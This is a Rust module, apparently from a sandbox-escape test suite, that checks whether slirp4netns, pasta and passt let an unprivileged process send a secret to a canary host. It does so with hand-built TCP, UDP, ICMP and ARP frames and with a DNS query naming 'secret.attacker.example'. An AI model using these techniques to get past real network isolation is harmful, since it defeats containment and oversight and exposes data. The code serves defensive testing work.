//! Network stacks in user space (slirp4netns, pasta, passt): an unprivileged user's way to give a network namespace or a
//! virtual machine a network. What is sent there as packets leaves the host by sockets of these programs, which are the
//! attacker's processes like any other. The packets are made by hand: no system call of the kernel's own stack sees them.

use std::io::{Read, Write};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::net::UnixStream;
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use nix::errno::Errno;
use nix::sched::{CloneFlags, unshare};

use crate::datagram::{self, SECRET};
use crate::sys::{self, Attempt};
use crate::{Outcome, Scene, Technique, privilege};

pub(crate) const TECHNIQUES: &[Technique] = &[
    ("slirp_tcp", |scene| {
        let _inside = Namespace::of(slirp);
        privilege::reach(scene)
    }),
    ("slirp_udp", |scene| {
        let _inside = Namespace::of(slirp);
        datagram::send(scene.canary(), 0)
    }),
    ("slirp_packets_tcp", |scene| Namespace::of(slirp).wire(SLIRP_GUEST)?.tcp(scene, scene.canary())),
    ("slirp_packets_loopback", |scene| {
        Namespace::of(slirp).wire(SLIRP_GUEST)?.tcp(scene, SocketAddr::new(SLIRP_HOST.into(), scene.port("bystander")))
    }),
    ("slirp_packets_udp", |scene| Namespace::of(slirp).wire(SLIRP_GUEST)?.udp(scene.canary())),
    ("slirp_packets_dns", |scene| Namespace::of(slirp).wire(SLIRP_GUEST)?.dns(scene, scene.canary().ip())),
    ("slirp_packets_dns_own", |scene| Namespace::of(slirp).wire(SLIRP_GUEST)?.dns(scene, SLIRP_RESOLVER.into())),
    ("slirp_packets_ping", |scene| Namespace::of(slirp).wire(SLIRP_GUEST)?.ping(scene)),
    ("pasta_tcp", |scene| {
        let _inside = Namespace::of(pasta);
        privilege::reach(scene)
    }),
    ("pasta_udp", |scene| {
        let _inside = Namespace::of(pasta);
        datagram::send(scene.canary(), 0)
    }),
    ("pasta_packets_tcp", |scene| Namespace::of(pasta).wire(GUEST)?.tcp(scene, scene.canary())),
    ("pasta_packets_tcp6", |scene| Namespace::of(pasta).wire(GUEST6)?.tcp(scene, scene.canary6())),
    ("pasta_packets_loopback", |scene| Namespace::of(pasta).wire(GUEST)?.tcp(scene, host(scene))),
    ("pasta_packets_udp", |scene| Namespace::of(pasta).wire(GUEST)?.udp(scene.canary())),
    ("pasta_packets_udp6", |scene| Namespace::of(pasta).wire(GUEST6)?.udp(scene.canary6())),
    ("pasta_packets_dns", |scene| Namespace::of(pasta).wire(GUEST)?.dns(scene, scene.canary().ip())),
    ("pasta_packets_ping", |scene| Namespace::of(pasta).wire(GUEST)?.ping(scene)),
    ("passt_tcp", |scene| passt(GUEST).tcp(scene, scene.canary())),
    ("passt_tcp6", |scene| passt(GUEST6).tcp(scene, scene.canary6())),
    ("passt_loopback", |scene| passt(GUEST).tcp(scene, host(scene))),
    ("passt_udp", |scene| passt(GUEST).udp(scene.canary())),
    ("passt_udp6", |scene| passt(GUEST6).udp(scene.canary6())),
    ("passt_dns", |scene| passt(GUEST).dns(scene, scene.canary().ip())),
    ("passt_ping", |scene| passt(GUEST).ping(scene)),
];

/// slirp4netns's network. The guest's address is none of the kernel's own, which would reset connections that it does not know.
const SLIRP_HOST: Ipv4Addr = Ipv4Addr::new(10, 0, 2, 2);
const SLIRP_RESOLVER: Ipv4Addr = Ipv4Addr::new(10, 0, 2, 3);
const SLIRP_GUEST: IpAddr = IpAddr::V4(Ipv4Addr::new(10, 0, 2, 77));
/// pasta and passt take any.
const GUEST: IpAddr = IpAddr::V4(Ipv4Addr::new(198, 51, 100, 77));
const GUEST6: IpAddr = IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 0x77));

const HARDWARE: [u8; 6] = [2, 0, 0, 0, 0, 0x77];
/// Whoever is at the other end takes everything.
const PEER: [u8; 6] = [2, 0, 0, 0, 0, 0x78];
const IPV4: u16 = 0x0800;
const IPV6: u16 = 0x86dd;
const ARP: u16 = 0x0806;
const ICMP: u8 = 1;
const TCP: u8 = 6;
const UDP: u8 = 17;
const ICMP6: u8 = 58;
const FIN: u8 = 1;
const SYN: u8 = 2;
const RST: u8 = 4;
const PSH: u8 = 8;
const ACK: u8 = 16;
/// The guest's port.
const PORT: u16 = 40_077;

const DEVICE: &str = "tap0";
/// Until the program is there.
const STARTS: Duration = Duration::from_secs(10);
/// Nobody waits longer than this for an answer that should not come.
const SILENCE: Duration = Duration::from_millis(300);

/// Nor longer than this for one that may.
fn patience(scene: &Scene) -> Duration {
    Duration::from_millis(scene.number("patience").into())
}

/// The host's loopback address, as pasta and passt offer it to their guests: by the router's address.
fn host(scene: &Scene) -> SocketAddr {
    SocketAddr::new(scene.text("router").parse().expect("an address"), scene.port("bystander"))
}

fn slirp(pid: &str) -> Vec<&str> {
    vec!["slirp4netns", "--configure", "--mtu=1500", pid, DEVICE]
}

fn pasta(pid: &str) -> Vec<&str> {
    let words = ["pasta", "--config-net", "--foreground", "--ns-ifname", DEVICE];
    [&words[..], as_whom(), &[pid]].concat()
}

/// Root would become nobody, who may not enter the attacker's namespaces.
fn as_whom() -> &'static [&'static str] {
    if nix::unistd::getuid().is_root() { &["--runas", "0:0"] } else { &[] }
}

/// A process that is ended with this.
struct Stack(Child);

impl Drop for Stack {
    fn drop(&mut self) {
        // Errors mean that it is gone already.
        drop(self.0.kill());
        drop(self.0.wait());
    }
}

impl Stack {
    fn wait_until<T>(&mut self, mut there: impl FnMut() -> Option<T>) -> T {
        let deadline = Instant::now() + STARTS;
        loop {
            if let Some(there) = there() {
                return there;
            }
            let ended = self.0.try_wait().expect("a child");
            assert!(
                ended.is_none() && Instant::now() < deadline,
                "the network in user space does not come up: {ended:?}"
            );
            std::thread::sleep(Duration::from_millis(5));
        }
    }
}

/// User and network namespaces of this process, with a network by a program that stayed outside.
struct Namespace {
    stack: Stack,
}

impl Namespace {
    fn of(words: impl FnOnce(&str) -> Vec<&str>) -> Self {
        let (uid, gid) = (nix::unistd::getuid(), nix::unistd::getgid());
        let pid = std::process::id().to_string();
        // It starts outside, and goes on when there is a namespace to go to.
        let mut command = Command::new("sh");
        command.args(["-c", r#"read go && exec "$@""#, "sh"]).args(words(&pid));
        let mut child = command.stdin(Stdio::piped()).stdout(Stdio::null()).spawn().expect("a shell");
        unshare(CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNET).expect("namespaces of its own");
        // Root without capabilities may not map itself; these programs do without.
        drop(std::fs::write("/proc/self/setgroups", "deny"));
        drop(std::fs::write("/proc/self/uid_map", format!("0 {uid} 1")));
        drop(std::fs::write("/proc/self/gid_map", format!("0 {gid} 1")));
        child.stdin.take().expect("its input").write_all(b"\n").expect("the shell reads");
        let mut stack = Stack(child);
        let has_route = || {
            let routes = std::fs::read_to_string("/proc/thread-self/net/route").expect("routes");
            routes.contains(DEVICE).then_some(())
        };
        stack.wait_until(has_route);
        Self { stack }
    }

    /// Past the kernel's own stack, by a packet socket.
    fn wire(self, own: IpAddr) -> Attempt<Wire> {
        let kind = ether_type(own);
        // Only what arrives is of one protocol: of what leaves, ETH_P_ALL alone gets a copy.
        let socket = sys::socket(libc::AF_PACKET, libc::SOCK_RAW, i32::from(kind.to_be()))?;
        let index = nix::net::if_::if_nametoindex(DEVICE)?;
        let family = u16::try_from(libc::AF_PACKET).expect("a small number");
        let address = [&family.to_ne_bytes()[..], &kind.to_be_bytes(), &index.to_ne_bytes(), &[0; 12]].concat();
        sys::bind(&socket, &address)?;
        let mut wire = Wire { link: Link::Device(socket, address), own, _stack: self.stack };
        wire.announce()?;
        Ok(wire)
    }
}

/// passt takes its guest's frames from a socket in the file system, as QEMU sends them: no namespace, no privilege.
fn passt(own: IpAddr) -> Wire {
    let path = std::env::temp_dir().join(format!("bypass-{}.socket", std::process::id()));
    let mut command = Command::new("passt");
    command.args(as_whom()).args(["--foreground", "--one-off", "--socket"]).arg(&path).stdout(Stdio::null());
    let mut stack = Stack(command.spawn().expect("passt"));
    let stream = stack.wait_until(|| UnixStream::connect(&path).ok());
    Wire { link: Link::Socket(stream, path), own, _stack: stack }
}

enum Link {
    /// A packet socket, and the `struct sockaddr_ll` of the device.
    Device(OwnedFd, Vec<u8>),
    /// Frames with their length in front.
    Socket(UnixStream, PathBuf),
}

impl Drop for Link {
    fn drop(&mut self) {
        if let Self::Socket(_, path) = self {
            drop(std::fs::remove_file(path));
        }
    }
}

/// One end of a cable whose other end is a network stack in user space.
struct Wire {
    link: Link,
    own: IpAddr,
    _stack: Stack,
}

impl Wire {
    /// A connection, opened by hand as far as it takes to send something.
    fn tcp(&mut self, scene: &Scene, to: SocketAddr) -> Attempt<Outcome> {
        let mut next = 1_000_u32;
        self.send(TCP, to.ip(), segment(to.port(), next, 0, SYN, b""))?;
        let deadline = Instant::now() + patience(scene);
        let mut established = false;
        loop {
            let reply = self.receive(deadline)?;
            if unreachable(&reply) {
                return Err(Errno::EHOSTUNREACH);
            }
            if reply.protocol != TCP || reply.word(0) != to.port() || reply.word(2) != PORT {
                continue;
            }
            let (flags, data) = (reply.byte(13), reply.after(usize::from(reply.byte(12) >> 4) * 4));
            if flags & RST != 0 {
                return if established { Ok(Outcome::Closed) } else { Err(Errno::ECONNREFUSED) };
            }
            if !data.is_empty() {
                return Ok(Outcome::Answer(String::from_utf8_lossy(data).trim().to_owned()));
            }
            if flags & FIN != 0 {
                return Ok(Outcome::Closed);
            }
            if flags & SYN != 0 && !established {
                established = true;
                next += 1;
                let theirs = reply.number(4).wrapping_add(1);
                self.send(TCP, to.ip(), segment(to.port(), next, theirs, ACK, b""))?;
                self.send(TCP, to.ip(), segment(to.port(), next, theirs, PSH | ACK, SECRET))?;
            }
        }
    }

    fn udp(&mut self, to: SocketAddr) -> Attempt<Outcome> {
        let reply = self.ask(to, SECRET, SILENCE)?;
        Ok(Outcome::Answer(String::from_utf8_lossy(&reply).trim().to_owned()))
    }

    fn dns(&mut self, scene: &Scene, resolver: IpAddr) -> Attempt<Outcome> {
        // RFC 1035, section 4.1: one question for an address, recursion desired.
        let header = [0x77, 0x77, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
        let query = [&header[..], b"\x06secret\x08attacker\x07example\0", &[0, 1, 0, 1]].concat();
        let reply = self.ask(SocketAddr::new(resolver, 53), &query, patience(scene))?;
        Ok(Outcome::Answer(match reply.get(3).map(|flags| flags & 15) {
            Some(5) => "refused by the resolver".to_owned(),
            code => format!("of a resolver: {code:?}"),
        }))
    }

    fn ping(&mut self, scene: &Scene) -> Attempt<Outcome> {
        let to = scene.canary().ip();
        self.send(ICMP, to, [&[8, 0, 0, 0, 0, 77, 0, 1][..], SECRET].concat())?;
        let deadline = Instant::now() + SILENCE;
        loop {
            let reply = self.receive(deadline)?;
            match (reply.protocol, reply.byte(0)) {
                (ICMP, 0) => return Ok(Outcome::Done("an echo")),
                _ if unreachable(&reply) => return Err(Errno::EHOSTUNREACH),
                _ => {}
            }
        }
    }

    /// A datagram, and the next one that comes back.
    fn ask(&mut self, to: SocketAddr, what: &[u8], limit: Duration) -> Attempt<Vec<u8>> {
        self.send(UDP, to.ip(), datagram(to.port(), what))?;
        let deadline = Instant::now() + limit;
        loop {
            let reply = self.receive(deadline)?;
            if unreachable(&reply) {
                return Err(Errno::EHOSTUNREACH);
            }
            if reply.protocol == UDP && reply.word(0) == to.port() && reply.word(2) == PORT {
                return Ok(reply.after(8).to_vec());
            }
        }
    }

    /// slirp asks who has an address, unless it has heard.
    fn announce(&mut self) -> Attempt {
        let IpAddr::V4(own) = self.own else { return Ok(()) };
        let request = [0, 1, 8, 0, 6, 4, 0, 1];
        let words = [&request[..], &HARDWARE, &own.octets(), &[0; 6], &SLIRP_HOST.octets()].concat();
        self.frame(ARP, &words)
    }

    fn send(&mut self, protocol: u8, to: IpAddr, mut payload: Vec<u8>) -> Attempt {
        let sum_at = match protocol {
            TCP => 16,
            UDP => 6,
            _ => 2,
        };
        let length = u16::try_from(payload.len()).expect("a small packet");
        let (own, to) = (octets(self.own), octets(to));
        // RFC 9293, section 3.1 and RFC 8200, section 8.1: addresses, length and protocol count.
        let pseudo = [&own[..], &to, &length.to_be_bytes(), &[0, protocol]].concat();
        let counted = if protocol == ICMP { payload.clone() } else { [&pseudo[..], &payload].concat() };
        payload[sum_at..sum_at + 2].copy_from_slice(&checksum(&counted).to_be_bytes());
        let header = match self.own {
            IpAddr::V4(_) => {
                let total = (length + 20).to_be_bytes();
                let start = [0x45, 0, total[0], total[1], 0, 77, 0x40, 0, 64, protocol];
                let sum = checksum(&[&start[..], &own, &to].concat());
                [&start[..], &sum.to_be_bytes(), &own, &to].concat()
            }
            IpAddr::V6(_) => {
                let length = length.to_be_bytes();
                [&[0x60, 0, 0, 0, length[0], length[1], protocol, 64][..], &own, &to].concat()
            }
        };
        self.frame(ether_type(self.own), &[header, payload].concat())
    }

    fn frame(&mut self, kind: u16, payload: &[u8]) -> Attempt {
        let frame = [&PEER[..], &HARDWARE, &kind.to_be_bytes(), payload].concat();
        match &mut self.link {
            Link::Device(socket, address) => sys::send_to(socket, &frame, 0, address),
            Link::Socket(stream, _) => {
                let length = u32::try_from(frame.len()).expect("a small frame");
                stream.write_all(&[&length.to_be_bytes()[..], &frame].concat()).map_err(|error| errno(&error))
            }
        }
    }

    fn receive(&mut self, deadline: Instant) -> Attempt<Packet> {
        loop {
            let left = deadline.saturating_duration_since(Instant::now());
            if left.is_zero() {
                return Err(Errno::ETIMEDOUT);
            }
            let frame = self.link.receive(left)?;
            if let Some(packet) = Packet::read(&frame) {
                return Ok(packet);
            }
        }
    }
}

impl Link {
    fn receive(&mut self, limit: Duration) -> Attempt<Vec<u8>> {
        match self {
            Self::Device(socket, _) => {
                let mut frame = vec![0; 65_536];
                let seconds = i64::try_from(limit.as_secs()).expect("a few seconds");
                let time = nix::sys::time::TimeVal::new(seconds, limit.subsec_micros().into());
                nix::sys::socket::setsockopt(socket, nix::sys::socket::sockopt::ReceiveTimeout, &time)?;
                let length =
                    nix::sys::socket::recv(socket.as_raw_fd(), &mut frame, nix::sys::socket::MsgFlags::empty());
                let length = length.map_err(|error| if error == Errno::EAGAIN { Errno::ETIMEDOUT } else { error })?;
                frame.truncate(length);
                Ok(frame)
            }
            Self::Socket(stream, _) => {
                stream.set_read_timeout(Some(limit)).expect("a limit");
                let mut length = [0; 4];
                let late = |error: std::io::Error| match errno(&error) {
                    Errno::EAGAIN => Errno::ETIMEDOUT,
                    other => other,
                };
                stream.read_exact(&mut length).map_err(late)?;
                let mut frame = vec![0; usize::try_from(u32::from_be_bytes(length)).expect("a length")];
                stream.read_exact(&mut frame).map_err(late)?;
                Ok(frame)
            }
        }
    }
}

/// What came back, without the headers around it.
struct Packet {
    protocol: u8,
    bytes: Vec<u8>,
}

impl Packet {
    fn read(frame: &[u8]) -> Option<Self> {
        let (kind, packet) = (frame.get(12..14)?, frame.get(14..)?);
        let (protocol, start) = match u16::from_be_bytes([kind[0], kind[1]]) {
            IPV4 => (*packet.get(9)?, usize::from(packet[0] & 15) * 4),
            IPV6 => (*packet.get(6)?, 40),
            _ => return None,
        };
        Some(Self { protocol, bytes: packet.get(start..)?.to_vec() })
    }

    fn byte(&self, at: usize) -> u8 {
        self.bytes.get(at).copied().unwrap_or(0)
    }

    fn word(&self, at: usize) -> u16 {
        u16::from_be_bytes([self.byte(at), self.byte(at + 1)])
    }

    fn number(&self, at: usize) -> u32 {
        u32::from(self.word(at)) << 16 | u32::from(self.word(at + 2))
    }

    fn after(&self, at: usize) -> &[u8] {
        self.bytes.get(at..).unwrap_or_default()
    }
}

/// An ICMP error (RFC 792 and RFC 4443: destination unreachable).
fn unreachable(packet: &Packet) -> bool {
    matches!((packet.protocol, packet.byte(0)), (ICMP, 3) | (ICMP6, 1))
}

/// RFC 9293, section 3.1, without options and checksum.
fn segment(port: u16, sequence: u32, acknowledged: u32, flags: u8, data: &[u8]) -> Vec<u8> {
    let ports = [PORT.to_be_bytes(), port.to_be_bytes()].concat();
    let numbers = [sequence.to_be_bytes(), acknowledged.to_be_bytes()].concat();
    [&ports[..], &numbers, &[5 << 4, flags, 0xff, 0xff, 0, 0, 0, 0], data].concat()
}

/// RFC 768, without checksum.
fn datagram(port: u16, data: &[u8]) -> Vec<u8> {
    let length = u16::try_from(data.len() + 8).expect("a small datagram").to_be_bytes();
    [&PORT.to_be_bytes()[..], &port.to_be_bytes(), &length, &[0, 0], data].concat()
}

/// RFC 1071.
fn checksum(bytes: &[u8]) -> u16 {
    let words = bytes.chunks(2).map(|word| u32::from(word[0]) << 8 | u32::from(word.get(1).copied().unwrap_or(0)));
    let sum: u32 = words.sum();
    let folded = (sum & 0xffff) + (sum >> 16);
    !u16::try_from((folded & 0xffff) + (folded >> 16)).expect("16 bits")
}

fn octets(address: IpAddr) -> Vec<u8> {
    match address {
        IpAddr::V4(address) => address.octets().to_vec(),
        IpAddr::V6(address) => address.octets().to_vec(),
    }
}

fn ether_type(own: IpAddr) -> u16 {
    if own.is_ipv4() { IPV4 } else { IPV6 }
}

fn errno(error: &std::io::Error) -> Errno {
    Errno::from_raw(error.raw_os_error().unwrap_or(0))
}
